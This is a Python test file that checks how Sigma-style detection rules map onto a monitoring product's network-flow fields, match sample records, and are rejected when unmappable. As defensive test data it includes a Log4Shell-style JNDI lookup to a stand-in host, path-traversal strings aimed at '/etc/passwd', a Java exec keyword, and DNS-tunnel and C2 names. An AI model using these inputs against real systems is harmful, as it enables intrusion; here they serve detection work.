"""SigmaHQ's rules on our flows: the field mapping, loading and matching, and rejection with file
and line. The rules here are our own, written in SigmaHQ's conventions; no SigmaHQ rule is
copied. The importer's tests (``test_sigmahq.py``) use them as a checkout's rules."""

from __future__ import annotations

import itertools
from pathlib import Path
from typing import Any

import pytest
from sigma.conditions import ConditionAND
from sigma.rule import SigmaDetection, SigmaDetectionItem, SigmaRule
from sigma.types import SigmaCompareExpression, SigmaNumber, SigmaRegularExpression

from rules.community import translate
from rules.loader import load_rules
from sensors.wire import dump_record, validate_record

PROXY = """\
title: Test proxy script download from a cheap domain
id: 7e57c0de-0000-4000-8000-000000000001
status: test
logsource: {category: proxy}
detection:
  selection:
    c-uri-extension: [ps1, hta]
    cs-host|endswith: [.example-cheap, .test-tld]
    cs-method: GET
  condition: selection
level: medium
"""
WEBSERVER = """\
title: Test webserver traversal that was served
id: 7e57c0de-0000-4000-8000-000000000002
status: test
logsource: {category: webserver}
detection:
  traversal:
    cs-uri-query|contains: ['../', '%2e%2e%2f']
  cgi:
    cs-uri-stem|startswith: /cgi-bin/
    cs-version: HTTP/1.0
  served:
    sc-status: 200
  condition: (traversal or cgi) and served
level: high
"""
DNS = """\
title: Test dns tunnel names
id: 7e57c0de-0000-4000-8000-000000000003
status: test
logsource: {category: dns}
detection:
  dnscat:
    query|startswith: dnscat.
  txt:
    record_type: TXT
    query|contains: .tunnel.
  condition: dnscat or txt
level: high
"""
ZEEK_CONN = """\
title: Test zeek conn telnet or long icmp
id: 7e57c0de-0000-4000-8000-000000000004
status: test
logsource: {product: zeek, service: conn}
detection:
  telnet:
    id.resp_p: [23, 2323]
    proto: tcp
    conn_state: [SF, S1]
  long_icmp:
    proto: icmp
    duration|gt: 600
  condition: telnet or long_icmp
level: medium
"""
ZEEK_DNS = """\
title: Test zeek dns odd query types
id: 7e57c0de-0000-4000-8000-000000000005
status: test
logsource: {product: zeek, service: dns}
detection:
  selection:
    qtype_name: ['\\*', query-4242, 'NULL']
    rcode_name: NOERROR
  condition: selection
level: low
"""
ZEEK_HTTP = """\
title: Test zeek http webdav put out
id: 7e57c0de-0000-4000-8000-000000000006
status: test
logsource: {product: zeek, service: http}
detection:
  selection:
    method: PUT
    user_agent|contains: WebDAV
  internal:
    id.resp_h|cidr: [10.0.0.0/8, 192.168.0.0/16]
  condition: selection and not internal
level: low
"""
ZEEK_SSL = """\
title: Test zeek ssl known client to test domain
id: 7e57c0de-0000-4000-8000-000000000007
status: test
logsource: {product: zeek, service: ssl}
detection:
  selection:
    server_name|endswith: .bad.test
    ja3: 0123456789abcdef0123456789abcdef
  condition: selection
level: high
"""
OURS = (PROXY, WEBSERVER, DNS, ZEEK_CONN, ZEEK_DNS, ZEEK_HTTP, ZEEK_SSL)

_ids = itertools.count(1)


def flow(fields: dict[str, Any] | None = None, **network: Any) -> dict[str, Any]:
    """A flow record as the sensor ships it (validated by the wire format), HTTP by default."""
    record = {
        "event.id": f"{next(_ids):032x}",
        "event.dataset": "trustwatch.flow",
        "event.start": "2026-01-01T00:00:00Z",
        "event.end": "2026-01-01T00:00:02Z",
        "event.duration": 2_000_000_000,
        "flow.end_reason": "fin",
        "network.transport": "tcp",
        "network.iana_number": "6",
        "network.type": "ipv4",
        "source.ip": "10.0.0.5",
        "source.port": 40000,
        "source.bytes": 900,
        "source.packets": 8,
        "destination.ip": "203.0.113.7",
        "destination.port": 80,
        "destination.bytes": 4000,
        "destination.packets": 6,
        **network,
        **(fields or {}),
    }
    return dump_record(validate_record(record))


def http(
    url: str, status: int = 200, method: str = "GET", extra: dict[str, Any] | None = None
) -> dict[str, Any]:
    return flow(
        {
            "http.request.method": method,
            "http.version": "1.1",
            "url.original": url,
            "url.domain": "www.example.org",
            "user_agent.original": "Mozilla/5.0",
            "http.response.status_code": status,
            **(extra or {}),
        }
    )


def dns(name: str, qtype: str = "A", rcode: str = "NOERROR") -> dict[str, Any]:
    return flow(
        {"dns.question.name": name, "dns.question.type": qtype, "dns.response_code": rcode},
        **{"network.transport": "udp", "network.iana_number": "17", "destination.port": 53},
    )


BENIGN = (
    http("/index.html"),
    flow(
        {"tls.client.server_name": "www.example.org", "tls.version": "1.3"},
        **{"destination.port": 443},
    ),
    dns("www.example.org"),
    flow({"flow.state": "SF"}, **{"destination.port": 22}),
)


def shape(item: SigmaDetection | SigmaDetectionItem) -> Any:
    """A detection as plain values: ("and"|"or", parts) or (field, values)."""
    if isinstance(item, SigmaDetection):
        linking = "and" if item.item_linking is ConditionAND else "or"
        return (linking, [shape(part) for part in item.detection_items])
    values: list[Any] = []
    for value in item.value:
        if isinstance(value, SigmaRegularExpression):
            values.append(f"re:{value.regexp}")
        elif isinstance(value, SigmaCompareExpression):
            values.append((value.op.name, value.number.number))
        elif isinstance(value, SigmaNumber):
            values.append(value.number)
        else:
            values.append(str(value))
    return (item.field, values)


def mapped(text: str) -> dict[str, Any]:
    rule = SigmaRule.from_yaml(text)
    assert () == translate(rule)
    return {name: shape(d) for name, d in rule.detection.detections.items()}


def _path_re(body: str) -> str:
    return f"re:^{body}(?:[?#].*)?$"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            PROXY,
            {
                "selection": (
                    "and",
                    [
                        (
                            "url.original",
                            [_path_re(r"[^?#]*\.ps1"), _path_re(r"[^?#]*\.hta")],
                        ),
                        (
                            "or",
                            [
                                ("url.domain", ["*.example-cheap", "*.test-tld"]),
                                ("tls.client.server_name", ["*.example-cheap", "*.test-tld"]),
                            ],
                        ),
                        ("http.request.method", ["GET"]),
                    ],
                )
            },
        ),
        (
            WEBSERVER,
            {
                "traversal": ("and", [("url.original", ["*../*", "*%2e%2e%2f*"])]),
                "cgi": (
                    "and",
                    [
                        ("url.original", [_path_re("/cgi\\-bin/[^?#]*")]),
                        ("http.version", ["1.0"]),
                    ],
                ),
                "served": ("and", [("http.response.status_code", [200])]),
            },
        ),
        (
            DNS,
            {
                "dnscat": ("and", [("dns.question.name", ["dnscat.*"])]),
                "txt": (
                    "and",
                    [("dns.question.type", ["TXT"]), ("dns.question.name", ["*.tunnel.*"])],
                ),
            },
        ),
        (
            ZEEK_CONN,
            {
                "telnet": (
                    "and",
                    [
                        ("destination.port", [23, 2323]),
                        ("network.transport", ["tcp"]),
                        ("flow.state", ["SF", "S1"]),
                    ],
                ),
                "long_icmp": (
                    "and",
                    [
                        ("network.transport", ["icmp", "ipv6-icmp"]),
                        ("event.duration", [("GT", 600_000_000_000)]),
                    ],
                ),
            },
        ),
        (
            ZEEK_DNS,
            {
                "selection": (
                    "and",
                    [
                        ("dns.question.type", ["ANY", "TYPE4242", "NULL"]),
                        ("dns.response_code", ["NOERROR"]),
                    ],
                )
            },
        ),
        (
            ZEEK_HTTP,
            {
                "selection": (
                    "and",
                    [("http.request.method", ["PUT"]), ("user_agent.original", ["*WebDAV*"])],
                ),
                "internal": ("and", [("destination.ip", ["10.0.0.0/8", "192.168.0.0/16"])]),
            },
        ),
        (
            ZEEK_SSL,
            {
                "selection": (
                    "and",
                    [
                        ("tls.client.server_name", ["*.bad.test"]),
                        ("tls.client.ja3", ["0123456789abcdef0123456789abcdef"]),
                    ],
                )
            },
        ),
    ],
    ids=["proxy", "webserver", "dns", "zeek-conn", "zeek-dns", "zeek-http", "zeek-ssl"],
)
def test_each_convention_maps_to_our_fields(text: str, expected: dict[str, Any]) -> None:
    assert expected == mapped(text)


def test_a_keyword_is_searched_for_within_values_as_in_a_log_line(tmp_path: Path) -> None:
    text = (
        "title: keywords\nlogsource: {category: webserver}\ndetection:\n"
        "  keywords: ['${jndi:', '*getRuntime()*']\n  condition: keywords\n"
    )
    (tmp_path / "k.yml").write_text(text, encoding="utf-8")
    (rule,) = load_rules([tmp_path]).rules
    matched = [
        rule.matches(record)
        for record in (
            http("/?x=${jndi:ldap://x.test/a}"),
            http("/", extra={"user_agent.original": "a getRuntime().exec( b"}),
            *BENIGN,
        )
    ]
    assert (
        {"keywords": ("and", [(None, ["*${jndi:*", "*getRuntime()*"])])},
        [True, True, False, False, False, False],
    ) == (mapped(text), matched)


def test_our_own_rules_are_left_alone() -> None:
    text = (
        "title: t\nlogsource: {category: network}\ndetection:\n  sel: {query: x}\n"
        "  condition: sel\n"
    )
    assert {"sel": ("and", [("query", ["x"])])} == mapped(text)


def test_sigmahq_rules_load_and_match_flows_like_the_sensors(tmp_path: Path) -> None:
    (tmp_path / "ours.yml").write_text("---\n".join(OURS), encoding="utf-8")
    pack = load_rules([tmp_path])
    records = [
        http("/dl/run.PS1?x=1", extra={"url.domain": "cdn.example-cheap"}),
        flow({"tls.client.server_name": "files.test-tld"}, **{"destination.port": 443}),
        http("/cgi-bin/../../etc/passwd", extra={"http.version": "1.0"}),
        http("/a/%2E%2E%2Fb", status=404),
        dns("dnscat.0123abcd.example.test"),
        dns("x.tunnel.example.test", qtype="TXT"),
        dns("example.test", qtype="ANY"),
        dns("example.test", qtype="TYPE4242", rcode="NXDOMAIN"),
        flow({"flow.state": "SF"}, **{"destination.port": 23}),
        flow(
            {},
            **{
                "network.transport": "ipv6-icmp",
                "network.iana_number": "58",
                "network.type": "ipv6",
                "source.ip": "2001:db8::1",
                "source.port": None,
                "destination.ip": "2001:db8::2",
                "destination.port": None,
                "event.end": "2026-01-01T00:11:40Z",
                "event.duration": 700_000_000_000,
            },
        ),
        http("/share/x.docx", method="PUT", extra={"user_agent.original": "Microsoft-WebDAV/6"}),
        flow(
            {
                "http.request.method": "PUT",
                "url.original": "/share/x.docx",
                "user_agent.original": "Microsoft-WebDAV/6",
            },
            **{"destination.ip": "10.1.1.1"},
        ),
        flow(
            {
                "tls.client.server_name": "c2.bad.test",
                "tls.client.ja3": "0123456789abcdef0123456789abcdef",
            },
            **{"destination.port": 443},
        ),
        *BENIGN,
    ]
    fired = [sorted(r.title.split()[1] for r in pack.rules if r.matches(rec)) for rec in records]
    assert ((), 7, [["proxy"], [], ["webserver"], [], ["dns"], ["dns"], ["zeek"], []]) == (
        pack.problems,
        len(pack.rules),
        fired[:8],
    )
    assert [["zeek"], ["zeek"], ["zeek"], [], ["zeek"], [], [], [], []] == fired[8:]


@pytest.mark.parametrize(
    ("url", "extension", "stem"),
    [
        ("/a/b.hta", True, False),
        ("/a/b.HTA?x=1#top", True, False),
        ("/a/b.hta.txt", False, False),
        ("/q?f=a.hta", False, False),
        ("/owa/auth.aspx", False, True),
        ("/owa/auth.aspx?x=1", False, True),
        ("/owa/auth.aspx/x", False, False),
        ("/OWA/Auth.aspx", False, True),
    ],
)
def test_url_path_and_extension_ignore_the_query_string(
    tmp_path: Path, url: str, extension: bool, stem: bool
) -> None:
    (tmp_path / "r.yml").write_text(
        "title: extension\nlogsource: {category: proxy}\ndetection:\n"
        "  sel: {c-uri-extension: hta}\n  condition: sel\n---\n"
        "title: stem\nlogsource: {category: webserver}\ndetection:\n"
        "  sel: {cs-uri-stem: /owa/auth.aspx}\n  condition: sel\n",
        encoding="utf-8",
    )
    extension_rule, stem_rule = load_rules([tmp_path]).rules
    record = http(url)
    assert (extension, stem) == (extension_rule.matches(record), stem_rule.matches(record))


def test_what_does_not_map_is_a_problem_with_file_line_and_reason(tmp_path: Path) -> None:
    path = tmp_path / "unmappable.yml"
    path.write_text(
        "title: cookie and referrer\nlogsource: {category: proxy}\ndetection:\n"
        "  sel:\n    c-uri|contains: /login\n    cs-cookie|contains: admin\n"
        "  ref:\n    cs-referrer: http://x.test/\n  condition: sel and ref\n"
        "---\n"
        "title: dce-rpc\nlogsource:\n  product: zeek\n  service: dce_rpc\ndetection:\n"
        "  sel: {operation: NetrJobAdd}\n  condition: sel\n"
        "---\n"
        "title: unknown proxy field\nlogsource: {category: proxy}\ndetection:\n"
        "  sel: {x-custom-header: x}\n  condition: sel\n"
        "---\n"
        "title: ours, not SigmaHQ's\nlogsource: {category: network}\ndetection:\n"
        "  sel: {query: x}\n  condition: sel\n",
        encoding="utf-8",
    )
    pack = load_rules([path])
    assert (
        (),
        [
            f"{path}:6: field cs-cookie is not carried by TrustWatch flows: "
            "the sensor does not read cookies",
            f"{path}:8: field cs-referrer is not carried by TrustWatch flows: "
            "the sensor does not read the Referer header",
            f"{path}:12: TrustWatch flows answer Zeek's conn, dns, http, ssl logs, "
            "not its dce_rpc log",
            f"{path}:22: field x-custom-header is not one of SigmaHQ's proxy fields that "
            "TrustWatch flows carry",
            f"{path}:28: field 'query' is not one our events carry",
        ],
    ) == (pack.rules, [str(p) for p in pack.problems])
